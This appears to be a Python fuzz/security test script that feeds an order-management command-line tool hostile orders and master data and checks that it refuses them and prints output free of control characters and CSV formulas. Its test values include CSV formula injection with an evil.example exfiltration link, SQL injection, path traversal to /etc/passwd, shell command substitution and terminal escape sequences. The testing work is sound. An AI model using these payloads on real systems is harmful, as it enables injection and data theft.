#!/usr/bin/python3
"""Hands hostile orders and master data to ordr, and looks at every byte that comes back.

    hostile.py ORDR

REFUSED is what must not be taken: each is handed in as a file and on standard input, with errors as text and as JSON; the message must say
what the matter is, and nothing may be written. Then TEXTS, which are unpleasant and yet allowed, are put wherever text goes, and every reading
command prints them in every format. Throughout: no raw control and nothing that turns text around on either stream, JSON that is JSON,
CSV in which no cell is a formula.
"""
import csv
import hashlib
import io
import json
import os
import pty
import re
import subprocess
import sys
import tempfile
import unicodedata

TURNS = {0x61C, 0x200E, 0x200F, *range(0x202A, 0x202F), *range(0x2066, 0x206A)}
COLOR = re.compile(r"\x1b\[(0|1|31|32|33)m")
MEBIBYTE = 1024 * 1024
EXITS = {0, 2, 3, 4, 5, 6, 7, 8, 20}


def order(**members):
    return json.dumps({"customer": "C-1", "lines": [{"sku": "P-1", "qty": 1}]} | members)


def line(text):
    """An order with a line of this JSON."""
    return '{"customer":"C-1","lines":[{"sku":"P-1",%s}]}' % text


HEADER = "customer,sku,qty,note\n"

# What it is, the file, and what the message must say.
REFUSED = [
    # limits, each by its name
    ("10 MB of text", order(note="x" * 10_000_000), "a text longer than 1048576 bytes"),
    ("a text of a mebibyte", order(note="x" * (MEBIBYTE - 1)), "longer than 1000 characters"),
    ("10 MB of a name", '{"%s":1}' % ("x" * 10_000_000), "a text longer than 1048576 bytes"),
    ("10,000 deep", '{"customer":' + "[" * 10_000 + "]" * 10_000 + "}", "deeper than 64 levels"),
    ("10,000 objects deep", '{"a":' * 10_000 + "1" + "}" * 10_000, "deeper than 64 levels"),
    ("10,001 lines", json.dumps({"customer": "C-1", "lines": [{"sku": "P-1", "qty": 1}] * 10_001}), "more than 10000 items"),
    ("100,001 values", '{"lines":[' + "1," * 100_001 + "1]}", "a record with more than 100000 values"),
    ("17 MiB of blanks", '{"customer":' + " " * 17 * MEBIBYTE + '"C-1"}', "a record larger than 16 MiB"),
    ("a cell of 10 MB", HEADER + "C-1,P-1,1," + "x" * 10_000_000 + "\n", "a cell longer than 1048576 bytes"),
    ("300 columns", HEADER + "C-1,P-1,1" + "," * 300 + "\n", "a row with more than 256 cells"),
    ("a header of 300 columns", "customer" + ",x" * 300 + "\nC-1\n", "256 cells"),
    ("a code of 100 characters", order(customer="C" * 100), "longer than 60 characters|no customer"),
    # numbers
    ("2^63", line('"qty":9223372036854775808'), "has more digits than can be kept"),
    ("2^63 thousandths", line('"qty":9223372036854775.808'), "has more digits than can be kept"),
    ("as much as fits", line('"qty":9223372036854775.807'), "more than a line can hold"),
    ("a price as large as fits", line('"qty":1000000,"price":9223372036854.775807'), "more than can be counted|more than a line can hold"),
    ("-0", line('"qty":-0'), "is not above zero"),
    ("-1", line('"qty":-1'), "is not above zero"),
    ("1e400", line('"qty":1e400'), "is not a number"),
    ("1e1", line('"qty":1e1'), "is not a number"),
    ("NaN", line('"qty":NaN'), "is not a JSON value"),
    ("Infinity", line('"qty":-Infinity'), "is not a JSON value"),
    ("007", line('"qty":007'), "is not a JSON value"),
    ("1-2", line('"qty":1-2'), "is not a JSON value"),
    ("0x10", line('"qty":0x10'), "is not a JSON value"),
    ("41 digits", line('"qty":' + "1" * 41), "longer than the 40 characters of a number"),
    ("10 MB of digits", line('"qty":' + "1" * 10_000_000), "longer than the 40 characters of a number"),
    ("four decimals", line('"qty":0.0001'), "has more digits than can be kept"),
    ("half a millionth", line('"qty":1,"price":0.0000005'), "has more digits than can be kept"),
    ("a number in a text", line('"qty":"1"'), "number"),
    ("a sum in CSV", HEADER + "C-1,P-1,=1+1,\n", "is not a number"),
    # text
    ("NUL", b'{"customer":"C-\x001"}', "the control character 0x00"),
    ("NUL as an escape", '{"customer":"C-\\u00001"}', "\\\\u0000 is not allowed"),
    ("NUL in a name", '{"cust\\u0000omer":"C-1"}', "\\\\u0000 is not allowed"),
    ("NUL in CSV", HEADER.encode() + b"C-1,P-1,1,a\x00b\n", "NUL|0x00"),
    ("ESC", order(note="\x1b[2J"), "holds a control character"),
    ("ESC, raw", b'{"customer":"C-1","note":"\x1b[2J"}', "the control character 0x1b"),
    ("ESC in CSV", HEADER + "C-1,P-1,1,\x1b]0;owned\x07\n", "control character"),
    ("CSI of one character", order(note="\x9b2J"), "holds a control character"),
    ("DEL", order(note="a\x7fb"), "holds a control character"),
    ("CR", order(note="a\rb"), "holds a control character"),
    ("a byte that is not UTF-8", b'{"customer":"C-1","note":"\xff"}', "not UTF-8"),
    ("a byte of no character set in CSV", HEADER.encode() + b"C-1,P-1,1,M\x81ller\n", "not UTF-8"),
    ("an overlong slash", b'{"customer":"C-1","note":"\xc0\xaf"}', "not UTF-8"),
    ("a surrogate as bytes", b'{"customer":"C-1","note":"\xed\xa0\x80"}', "not UTF-8"),
    ("beyond U+10FFFF", b'{"customer":"C-1","note":"\xf4\x90\x80\x80"}', "not UTF-8"),
    ("half a pair", '{"customer":"C-1","note":"\\ud800"}', "half a surrogate pair"),
    ("the other half", '{"customer":"C-1","note":"\\udc00\\ud800"}', "half a surrogate pair"),
    ("UTF-16", '{"customer":"C-1"}'.encode("utf-16"), ""),
    # shape
    ("a key twice", '{"customer":"C-1","customer":"C-2","lines":[]}', "\"customer\" stands twice"),
    ("a key twice, once escaped", '{"customer":"C-1","\\u0063ustomer":"C-2"}', "\"customer\" stands twice"),
    ("a key twice among many", "{" + "".join('"k%d":1,' % i for i in range(5000)) + '"k0":1}', "\"k0\" stands twice"),
    ("an unknown field", order(custumer="C-2"), "no such field: custumer"),
    ("an unknown field that is an escape", order(**{"\x1b[31m": 1}), "no such field: .*x1B"),
    ("an unknown field that turns around", order(**{"\u202eremotsuc": 1}), "no such field: .*u\\{202E\\}"),
    ("an unknown column", "customer,sku,qty,\x1b[31m\nC-1,P-1,1,x\n", "no such column|control character"),
    ("a column twice", "customer,sku,qty,qty\nC-1,P-1,1,2\n", "stands twice"),
    ("bytes behind the array", "[" + order() + "] x", "nothing after the array"),
    ("bytes behind the object", order() + "x", "a new line or the next object"),
    ("an array that does not end", "[" + order(), "the end of the input"),
    ("a comma too many", "[" + order() + ",]", "an object"),
    ("a list of texts", '["a"]', "an object"),
    ("a quote that does not end", HEADER + 'C-1,P-1,1,"x\n', "quote"),
    ("a quote inside", HEADER + 'C-1,P-1,1,x"y"\n', "quote"),
    ("a cell too many", HEADER + "C-1,P-1,1,x,y\n", "5 cells"),
    ("lines that are no list", order(lines={"sku": "P-1"}), "is not a list"),
    ("no lines", order(lines=[]), "no items"),
    ("objects for texts", order(note={"a": 1}), "note"),
    ("a schema of another", order(schema="ordr.customer-form/1"), "schema"),
    # words of others
    ("SQL", order(customer="x');DROP/**/TABLE/**/sales_order;--"), "no customer"),
    ("SQL for a product", line('"qty":1}, {"sku":"\' OR 1=1 --","qty":1'), "cannot be a code|no product"),
    ("a path", order(customer="../../../../etc/passwd"), "no customer"),
    ("a path for a warehouse", order(warehouse="/etc/passwd"), "no warehouse"),
    ("a format", order(customer="%s%n%x"), "no customer"),
    ("a customer that turns around", order(customer="\u202eACME\u202c"), "no customer (.*u\\{202E\\}|\u202eACME)"),
    ("a day that does not exist", order(requested="2026-02-30"), "is not a date"),
    ("a year too late", order(requested="10000-01-01"), "is not a date"),
    ("a currency that is none", order(currency="../"), "currency"),
    ("a discount above all", line('"qty":1,"discount":"101%"'), "discount"),
    ("one good, one wrong", order() + "\n" + order(customer="C-404") + "\n", "no customer C-404"),
]

TEXTS = {
    "formula": "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "plus": "+1+1",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "newline": "\n=1+1",
    "html": "<script>alert('x')</script>&amp;<b>",
    "sql": "'; DROP TABLE sales_order; --",
    "path": "../../../../etc/passwd",
    "csv": "a;b,c\"d\"\"e\nf",
    "json": "\"},{\"id\":\"SO-000666\",\"x\":\"\\u0000",
    "shell": "$(touch owned)`touch owned`;touch owned|touch owned",
    "format": "%s%n%d{}{{7*7}}",
    "turned": "\u202egnp.exe\u202c \u2066x\u2069 \u200fy\u200e \u061cz",
    "marks": "Z\u0351\u036b\u0343a\u0309l\u0353g\u0325o \u200b\ufeff\u2028\u2029",
    "wide": "漢字かな😀👩‍👩‍👧‍👦 ＡＢＣ",
    "private": "\ue000\U000f0000\U0010ffff\ufffe",
    "long": "ä" * 200,
}
TURNED = "=1+1\u202ex\n\u2067y\t\u200f"
# What a terminal obeys.
ESCAPES = "\x1b]0;owned\x07\x1b[2J\x9b31m\x7f\r\u202ex"

SKUS = ["=1+1", "+1", "../../x", "<b>x</b>", "'--", "\u202eP", "%s%n", "😀"]

READS = [
    "list", "list --state confirmed", "show 1", "show 1 2", "show SH-000001", "log", "log 1", "events", "stock list", "stock moves", "stock low",
    "customer list", "product list", "warehouse list", "sla list", "user list", "config list", "invoice list", "report sla",
    "report backlog", "report urgent", "doctor", "schema", "version",
]
FORMATS = ["", "--json", "--jsonl", "--csv", "--csv-dialect excel-de", "--color always"]


class Hostile:
    def __init__(self, binary):
        self.binary = os.path.abspath(binary)
        self.errors = self.runs = 0
        self.environment = {"PATH": "/nonexistent", "LC_ALL": "C.UTF-8", "TZ": "UTC", "LOGNAME": "ann",
                            "ORDR_NOW": "2026-11-26T09:00:00Z"}
        self.environment |= {name: value for name, value in os.environ.items() if name.endswith("SAN_OPTIONS")}

    def wrong(self, what, said):
        self.errors += 1
        print(f"{what}: {said}"[:600])

    def safe(self, what, raw, allowed):
        """The text, when it is UTF-8 and nothing in it would be obeyed."""
        try:
            text = raw.decode("utf-8", errors="strict")
        except UnicodeDecodeError as error:
            self.wrong(what, f"not UTF-8: {error}")
            return ""
        for character in COLOR.sub("", text):
            control = unicodedata.category(character) == "Cc" and character not in allowed
            if control or ord(character) in TURNS:
                self.wrong(what, f"U+{ord(character):04X} is raw")
                break
        return text

    def parsed(self, what, text):
        def unique(pairs):
            if len({name for name, _ in pairs}) != len(pairs):
                raise ValueError("a name stands twice")
            return dict(pairs)

        def none(word):
            raise ValueError(f"{word} is no JSON")
        try:
            return json.loads(text, object_pairs_hook=unique, parse_constant=none)
        except ValueError as error:
            self.wrong(what, f"{error}: {text[:200]}")
            return None

    def run(self, arguments, given=b"", allowed=EXITS):
        """Runs it and looks at what everything must have: (exit status, standard output, standard error)."""
        self.runs += 1
        what = "ordr " + " ".join(map(ascii, arguments))[:120]
        done = subprocess.run([self.binary, *arguments], input=given, capture_output=True, env=self.environment, check=False, timeout=120)
        if done.returncode not in allowed:
            self.wrong(what, f"exit {done.returncode}: {done.stderr[:300]}")
        is_csv = any(argument.startswith("--csv") for argument in arguments)
        out = self.safe(what, done.stdout, "\r\n\t" if is_csv else "\n\t" if arguments[0] in ("completion", "help") else "\n")
        said = self.safe(what + " (errors)", done.stderr, "\n")
        if done.returncode in (0, 3, 11, 20):
            self.output(what, arguments, out, is_csv)
        if {"--json", "--jsonl"} & set(arguments):
            for each in said.splitlines():
                self.parsed(what + " (errors)", each)
        return done.returncode, out, said

    def output(self, what, arguments, out, is_csv):
        if "--json" in arguments and out:
            self.parsed(what, out)
        if "--jsonl" in arguments:
            for each in out.splitlines():
                self.parsed(what, each)
        if is_csv and out:
            self.cells(what, out, "excel-de" in arguments)

    def cells(self, what, out, excel):
        out = out.removeprefix("\ufeff") if excel else out
        if not out.endswith("\r\n"):
            self.wrong(what, "a row without its end")
        rows = list(csv.reader(io.StringIO(out, newline=""), delimiter=";" if excel else ",", strict=True))
        for row in rows:
            if len(row) != len(rows[0]):
                self.wrong(what, f"{len(row)} cells under {len(rows[0])} headings: {row}")
            for cell in row:
                if cell[:1] in ("=", "+", "-", "@", "\t", "\r", "\n") and not re.fullmatch(r"-\d+([.,]\d+)?", cell):
                    self.wrong(what, f"a formula: {cell!r}")

    def state(self):
        """All that lies here, and what is in it."""
        found = {}
        for name in sorted(os.listdir(".")):
            with open(name, "rb") as file:
                found[name] = hashlib.sha256(file.read()).hexdigest()
        return found

    def good(self, *arguments, given=b""):
        status, out, said = self.run(list(arguments), given if isinstance(given, bytes) else given.encode())
        if status != 0:
            self.wrong("ordr " + " ".join(map(ascii, arguments))[:120], f"exit {status}: {said}")
        return out

    def refusals(self):
        for name, content, message in REFUSED:
            content = content if isinstance(content, bytes) else content.encode()
            with open("in", "wb") as file:
                file.write(content)
            before = self.state()
            for arguments, given in ((["place", "in"], b""), (["place", "-"], content), (["place", "in", "--json"], b""),
                                     (["place", "-", "--jsonl", "--dry-run"], content)):
                status, out, said = self.run(arguments, given)
                if status not in (4, 6, 7):
                    self.wrong(name, f"ordr {' '.join(arguments)}: exit {status}: {said}")
                if out:
                    self.wrong(name, f"printed {out[:80]!r}")
                # A note, such as the character set of a CSV file, stands before the errors.
                lines = [json.loads(line) for line in said.splitlines()] if arguments[2:] else []
                told = next((line["message"] for line in lines if line["error"]), said)
                if not re.search(message, told):
                    self.wrong(name, f"does not say \"{message}\": {said}")
                if len(said) > 100_000:
                    self.wrong(name, f"{len(said)} bytes of errors")
            if self.state() != before:
                self.wrong(name, "something was written")
        os.remove("in")

    def masters(self):
        customers = [{"code": f"C-{name}", "name": text, "street": text, "city": text[:100], "email": text} for name, text in TEXTS.items()]
        products = [{"sku": f"P-{name}", "name": text, "price": 1.5, "tax_rate": 19} for name, text in TEXTS.items()]
        products += [{"sku": sku, "name": sku, "price": 1, "tax_rate": 19} for sku in SKUS]
        taken = []
        for noun, records in (("customer", customers), ("product", products), ("warehouse", [{"code": "W-" + n, "name": t, "rank": 9} for n, t in TEXTS.items()])):
            for record in records:
                status, _, said = self.run([noun, "import", "-", "--jsonl"], json.dumps(record).encode())
                if status != 0:
                    self.wrong(noun, f"{record}: {said}")
                else:
                    taken.append((noun, record))
        for noun, record in taken:
            shown = self.parsed(noun, self.good(noun, "show", record.get("code") or record["sku"], "--json")) or [{}]
            shown = shown[0]["name"] if isinstance(shown, list) else shown["name"]
            if shown != record["name"]:
                self.wrong(noun, f"{record['name']!r} became {shown!r}")

    def orders(self):
        forms = [{"customer": f"C-{name}", "ref": text[:60], "key": f"k-{name}", "note": text, "channel": None,
                  "ship_to": {"name": text, "street": text, "city": text[:100]},
                  "lines": [{"sku": f"P-{name}", "qty": 2, "note": text}, *({"sku": sku, "qty": 1} for sku in SKUS)]}
                 for name, text in TEXTS.items()]
        self.good("place", "-", "--jsonl", given="\n".join(map(json.dumps, forms)))
        table = io.StringIO()
        writer = csv.writer(table, lineterminator="\r\n")
        writer.writerow(["customer", "ref", "sku", "qty", "line_note"])
        writer.writerows(["C-" + name, "csv " + text[:60], "P-" + name, 1, text] for name, text in TEXTS.items())
        self.good("place", "-", "--json", given=table.getvalue())
        everything = [f"P-{name}:1000" for name in TEXTS] + [f"{sku}:1000" for sku in SKUS]
        self.good("stock", "receive", *everything, "--ref", TURNED, "--json")

    def steps(self):
        """Each step of an order, with hostile text in what its options take."""
        for arguments in (["confirm", "1", "2", "3", "4", "5"], ["reject", "6", "--reason", "other", "--note", TURNED],
                          ["cancel", "7", "--reason", "other", "--note", TURNED], ["pick", "1", "2", "3"],
                          ["pick", "SH-000003", "--short", "P-minus=1", "--reason", "lost", "--note", TURNED],
                          ["pack", "SH-000001", "--package", "weight=1,tracking=" + TURNED], ["pack", "SH-000002"],
                          ["unpack", "SH-000002"], ["unpick", "SH-000002"], ["pick", "2"], ["pack", "2"],
                          ["ship", "1", "--carrier", TURNED], ["ship", "2", "--tracking", "=1+1" + TURNED],
                          ["deliver", "1", "--failed", "--reason", "other", "--note", TURNED], ["deliver", "1", "--received-by", TURNED], ["invoice", "issue", "1"],
                          ["pay", "RE-2026-00001", "1.00", "--method", "transfer", "--ref", TURNED],
                          ["config", "set", "company.city", "=\u202ex"], ["sla", "add", "--code", "=sla", "--confirm", "8"],
                          ["stock", "adjust", "P-html:-1", "--reason", "other"], ["stock", "count", "P-sql:999"],
                          ["stock", "edit", "P-csv", "--reorder-point", "2000", "--location", "=A-01"],
                          ["place", "-c", "C-html", "-l", "P-html:1", "--as", "<b>\u202eann", "--note", "=x", "--ref", "@r"]):
            self.on_a_terminal([*arguments, "--dry-run"])
            self.good(*arguments, "--json")

    def words(self):
        """Escapes, and bytes that are no text, where a word is expected: refused, and the refusal is harmless."""
        before = self.state()
        for word in (ESCAPES, "\udcff", "\udced\udca0\udc80", "=1+1\u202e"):
            for arguments in (["product", "show", word], ["show", word], ["list", "--fields", word],
                              [word], ["--" + word + "x"], ["list", "--customer", word], ["--db", word + "x", "list"], ["place", word + "x"],
                              ["help", word + "x"], ["schema", word], ["config", "get", word], ["log", word], ["list", "--state", word],
                              ["report", word], ["--now", word, "list"], ["--wait", word, "list"], ["invoice", "show", word],
                              ["customer", "edit", "C-sql", "--name", word + "\x1b"], ["confirm", word], ["stock", "receive", word + ":1"],
                              ["customer", "edit", word, "--city", "x"], ["place", "-c", "C-html", "-l", word + "x"], ["pay", word],
                              ["stock", "count", word], ["pack", "1", "--package", word], ["pick", "1", "--short", word, "--reason", "lost"],
                              ["stock", "reallocate", word, "--from", "1", "--to", "2", "--reason", "lost"], ["completion", word], ["events", "--after", word]):
                for look in ([], ["--json"], ["--csv"]):
                    status, _, said = self.run([*arguments, *look], allowed=EXITS | {9})
                    if status == 0 and (word == ESCAPES or "--customer" not in arguments):
                        self.wrong(" ".join(map(ascii, arguments)), f"was taken: {said}")
        if self.state() != before:
            self.wrong("words", "something was written")

    def prints(self):
        reads = [*map(str.split, READS), ["invoice", "show", "RE-2026-00001"], ["customer", "show", "C-turned", "C-csv"],
                 ["product", "show", *SKUS], ["stock", "show", "=1+1"], ["pick", "4", "--list", "-n"],
                 ["list", "--fields", "id,customer_name,ref,ship_to,lines"], ["events", "--after", "3", "--limit", "50"]]
        for read in reads:
            for look in FORMATS:
                status, _, said = self.run([*read, *look.split()])
                if status not in (0, 20):
                    self.wrong(" ".join(read), f"exit {status}: {said}")
            self.on_a_terminal(read)
        self.on_a_terminal(["show", "SH-000001", "--packing-slip"])

    def on_a_terminal(self, arguments):
        """The same, where standard output is a terminal of 40 columns."""
        master, slave = pty.openpty()
        os.set_blocking(master, False)
        subprocess.run(["/usr/bin/stty", "cols", "40", "-opost"], stdin=slave, check=True)
        child = subprocess.Popen([self.binary, *arguments], stdout=slave, stdin=subprocess.DEVNULL, stderr=subprocess.DEVNULL, env=self.environment)
        raw = b""
        while True:
            ended = child.poll() is not None
            try:
                raw += os.read(master, 65536)
            except BlockingIOError:
                if ended:
                    break
        os.close(slave)
        os.close(master)
        self.safe("on a terminal: " + " ".join(map(ascii, arguments)), raw, "\n")
        if not raw and arguments not in (["doctor"], ["user", "list"]):
            self.wrong("on a terminal: " + " ".join(arguments), "nothing came")

    def all(self):
        self.good("init", "--json")
        self.good("config", "set", "company.name", "Hostile")
        self.good("customer", "add", "--code", "C-1", "--name", "One")
        self.good("product", "add", "--sku", "P-1", "--name", "One", "--price", "1", "--tax-rate", "19")
        self.refusals()
        self.masters()
        self.orders()
        self.steps()
        self.words()
        self.prints()
        self.good("doctor")
        self.good("user", "add", "--name", "=cmd", "--role", "admin", "--as", "=boss\u202e")
        self.good("user", "list", "--csv")
        self.run(["place", "-c", "C-1", "-l", "P-1:1", "--as", "=x" + ESCAPES[3:4]])
        if set(self.state()) != {"ordr.db"}:
            self.wrong("the directory", f"holds {list(self.state())}")
        print(f"{self.runs} runs, {self.errors} wrong")
        return 1 if self.errors else 0


def main():
    hostile = Hostile(sys.argv[1])
    with tempfile.TemporaryDirectory() as directory:
        os.chdir(directory)
        status = hostile.all()
        os.chdir("/")
    return status


if __name__ == "__main__":
    sys.exit(main())
